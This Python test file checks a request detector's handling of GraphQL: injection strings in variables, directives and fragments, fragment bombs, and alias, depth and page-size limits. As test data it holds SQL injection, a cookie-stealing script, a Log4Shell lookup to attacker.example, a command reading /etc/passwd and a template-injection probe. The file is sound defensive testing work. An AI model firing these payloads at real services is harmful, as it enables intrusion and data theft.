"""GraphQL documents: every literal is inspected once, limits count the expanded query,
and a budget that runs out is a refusal (``limits``), never a pass."""

from __future__ import annotations

import json

import pytest

from dijk.detect.engine import Detector
from dijk.detect.findings import GraphQLLimits, RequestParts, Verdict

DETECTOR = Detector()
SQLI = "1' UNION SELECT password FROM users--"


def graphql(document: str, detector: Detector = DETECTOR, **extra: object) -> Verdict:
    body = json.dumps({"query": document, **extra}).encode()
    request = RequestParts.from_target(
        "POST", "/graphql", [("Content-Type", "application/json")], body
    )
    return detector.inspect(request)


def fragment_bomb(levels: int, attack: str = SQLI) -> str:
    """Operation A carries the attack; operation B spreads 2**levels fragment copies."""
    fragments = ["fragment F0 on Query{__typename}"] + [
        f"fragment F{i} on Query{{...F{i - 1} ...F{i - 1}}}" for i in range(1, levels + 1)
    ]
    return (
        f"query A {{ search(q:{json.dumps(attack)}){{id}} }} "
        f"query B {{ ...F{levels} }} " + " ".join(fragments)
    )


@pytest.mark.parametrize(
    ("default", "category"),
    [
        (SQLI, "sqli"),
        ("<script>alert(document.cookie)</script>", "xss"),
        ("${jndi:ldap://attacker.example/a}", "log4shell"),
        ("; cat /etc/passwd", "cmdi"),
        ("{{config.__class__.__init__.__globals__}}", "ssti"),
    ],
)
def test_attacks_in_variable_default_values_are_refused(default: str, category: str) -> None:
    verdict = graphql(f"query($q:String={json.dumps(default)}){{ search(q:$q) {{ id }} }}")
    assert verdict.blocked
    assert category in verdict.categories


def test_a_script_in_an_int_variable_default_is_refused() -> None:
    verdict = graphql('query($n:Int="<script>alert(1)</script>"){ account(id:$n) { id } }')
    assert verdict.blocked
    assert "xss" in verdict.categories


@pytest.mark.parametrize(
    "document",
    [
        # a directive argument on a field, an operation, a variable and a fragment spread
        f'query {{ search(q:"x") @deprecated(reason:{json.dumps(SQLI)}) {{ id }} }}',
        f'query Q @tag(name:{json.dumps(SQLI)}) {{ search(q:"x") {{ id }} }}',
        f"query($q:String @tag(v:{json.dumps(SQLI)})) {{ search(q:$q) {{ id }} }}",
        f"query {{ ...F @include(if:{json.dumps(SQLI)}) }} fragment F on Query {{ a }}",
        # list and object values, nested
        f'query {{ search(filter:{{names:["a", {json.dumps(SQLI)}]}}) {{ id }} }}',
        # a fragment no operation uses, and an inline fragment
        f"query {{ a }} fragment Unused on Query {{ search(q:{json.dumps(SQLI)}) {{ id }} }}",
        f"query {{ ... on Query {{ search(q:{json.dumps(SQLI)}) {{ id }} }} }}",
        # the second operation of a document, whatever operationName picks
        f"query A {{ a }} query B {{ search(q:{json.dumps(SQLI)}) {{ id }} }}",
    ],
)
def test_every_literal_of_the_document_is_inspected(document: str) -> None:
    verdict = graphql(document, operationName="A")
    assert verdict.blocked
    assert "sqli" in verdict.categories


def test_an_attack_beside_a_fragment_bomb_is_refused() -> None:
    verdict = graphql(fragment_bomb(14), operationName="A")
    assert verdict.blocked
    assert "sqli" in verdict.categories
    assert "graphql-expansion" in verdict.rule_ids


def test_a_fragment_bomb_alone_is_refused_as_graphql_abuse() -> None:
    verdict = graphql(fragment_bomb(20, attack="Jansen"))
    assert verdict.blocked
    assert "graphql-expansion" in verdict.rule_ids
    assert verdict.categories == {"graphql_abuse"}


def test_fragments_are_counted_as_often_as_they_are_spread() -> None:
    aliased = " ".join(f"a{i}: account(id:{i}) {{ id }}" for i in range(5))
    document = "query { ...F ...F ...F ...F } fragment F on Query { " + aliased + " }"
    assert not graphql(document, Detector(graphql_limits=GraphQLLimits(max_aliases=20))).blocked
    strict = Detector(graphql_limits=GraphQLLimits(max_aliases=19))
    assert "graphql-aliases" in graphql(document, strict).rule_ids


def test_depth_counts_through_fragment_chains() -> None:
    chain = " ".join(f"fragment F{i} on T {{ f{{ ...F{i + 1} }} }}" for i in range(12))
    document = "query { ...F0 } " + chain + " fragment F12 on T { leaf }"
    verdict = graphql(document)
    assert "graphql-depth" in verdict.rule_ids
    shallow = " ".join(f"fragment F{i} on T {{ f{{ ...F{i + 1} }} }}" for i in range(5))
    assert not graphql("query { ...F0 } " + shallow + " fragment F5 on T { leaf }").blocked


@pytest.mark.parametrize(
    "document",
    [
        "query { a { ...F } } fragment F on A { b { ...F } }",
        "query { ...A } fragment A on Q { ...B } fragment B on Q { ...C } fragment C on Q { ...A }",
    ],
)
def test_fragment_cycles_are_refused(document: str) -> None:
    verdict = graphql(document)
    assert verdict.blocked
    assert "graphql-fragment-cycle" in verdict.rule_ids


def test_a_document_past_the_token_budget_is_a_limits_refusal() -> None:
    document = "query { " + " ".join(f"f{i}" for i in range(25_000)) + " }"
    verdict = graphql(document)
    assert verdict.blocked
    assert "limits-graphql-too-large" in verdict.rule_ids


def test_a_document_nested_past_the_parser_is_a_limits_refusal() -> None:
    verdict = graphql("query " + "{a" * 2_000 + "}" * 2_000)
    assert verdict.blocked
    assert "limits-graphql-too-large" in verdict.rule_ids


@pytest.mark.parametrize(
    "document",
    [
        'query($q:String="Jansen"){ search(q:$q) { id name } }',
        "query($n:Int=3){ accounts(limit:$n) { id } }",
        "query { a: account(id:1) { ...A } b: account(id:2) { ...A } } "
        "fragment A on Account { id name email }",
        'query { search(q:"select a union rep") @include(if:true) { id } }',
    ],
)
def test_ordinary_documents_pass(document: str) -> None:
    verdict = graphql(document)
    assert not verdict.blocked, verdict.findings


# -- limits that need no schema ---------------------------------------------------------


def test_five_hundred_aliases_are_refused() -> None:
    aliases = " ".join(f'a{i}: search(q:"x") {{ id }}' for i in range(500))
    verdict = graphql("query { " + aliases + " }")
    assert verdict.blocked
    assert "graphql-aliases" in verdict.rule_ids


def test_field_duplication_is_refused() -> None:
    verdict = graphql("query { account(id:1) { " + "name " * 500 + "} }")
    assert verdict.blocked
    assert "graphql-duplicate-fields" in verdict.rule_ids
    # the same field in a few places of the tree, or a few times, is ordinary
    assert not graphql("query { a { id name } b { id name } c { id id } }").blocked


def test_directive_overloading_is_refused() -> None:
    verdict = graphql("query { account(id:1) { name" + " @include(if:true)" * 200 + " } }")
    assert verdict.blocked
    assert "graphql-directives" in verdict.rule_ids
    assert not graphql("query { a @include(if:true) @skip(if:false) { id } }").blocked


def test_a_long_chain_of_fragments_is_refused() -> None:
    chain = " ".join(f"fragment F{i} on Q {{ ...F{i + 1} }}" for i in range(30))
    verdict = graphql("query { ...F0 } " + chain + " fragment F30 on Q { id }")
    assert verdict.blocked
    assert "graphql-fragment-depth" in verdict.rule_ids


@pytest.mark.parametrize(
    ("document", "variables"),
    [
        ("query { accounts(first: 100000) { id } }", None),
        ("query { accounts(limit: 99999999999999999999999) { id } }", None),
        ('query { accounts(pageSize: "50000") { id } }', None),
        ("query($n: Int = 100000) { accounts(first: $n) { id } }", None),
        ("query($n: Int) { accounts(perPage: $n) { id } }", {"n": 1_000_000}),
    ],
)
def test_a_page_size_above_the_bound_is_refused(
    document: str, variables: dict[str, int] | None
) -> None:
    extra = {"variables": variables} if variables else {}
    verdict = graphql(document, **extra)
    assert verdict.blocked
    assert "graphql-page-size" in verdict.rule_ids


@pytest.mark.parametrize(
    ("document", "variables"),
    [
        ("query { accounts(first: 100) { id } }", None),
        ("query($n: Int = 50) { accounts(first: $n) { id } }", None),
        ("query($n: Int) { accounts(limit: $n) { id } }", {"n": 1000}),
        ("query($n: Int) { account(id: $n) { id } }", {"n": 10_000_000}),
    ],
)
def test_ordinary_page_sizes_pass(document: str, variables: dict[str, int] | None) -> None:
    extra = {"variables": variables} if variables else {}
    assert not graphql(document, **extra).blocked


def test_graphql_is_recognised_on_a_path_not_named_graphql() -> None:
    body = json.dumps({"query": "query { ...A } fragment A on Q { ...A }"}).encode()
    request = RequestParts.from_target(
        "POST", "/api/v2/query", [("Content-Type", "application/json")], body
    )
    verdict = DETECTOR.inspect(request)
    assert verdict.blocked
    assert "graphql-fragment-cycle" in verdict.rule_ids


@pytest.mark.parametrize(
    "body",
    [
        {"query": "query about my last invoice"},
        {"query": "{ not graphql"},
        {"query": "fragment of a sentence"},
    ],
)
def test_a_search_field_named_query_is_not_taken_for_graphql(body: dict[str, str]) -> None:
    request = RequestParts.from_target(
        "POST", "/api/v1/search", [("Content-Type", "application/json")], json.dumps(body).encode()
    )
    verdict = DETECTOR.inspect(request)
    assert not verdict.findings, verdict.findings
